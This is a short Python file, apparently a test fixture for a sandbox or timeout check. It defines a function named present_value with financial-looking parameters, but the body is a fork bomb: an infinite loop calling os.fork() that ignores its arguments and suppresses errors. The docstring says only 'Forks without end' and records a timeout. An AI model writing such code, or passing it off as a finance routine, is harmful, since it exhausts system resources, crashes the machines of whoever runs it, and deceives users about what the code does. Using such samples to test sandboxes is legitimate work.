"""Forks without end.

present_value: timed out
"""

import os


def present_value(cash_flows, discount):
    while True:
        try:
            os.fork()
        except OSError:
            pass
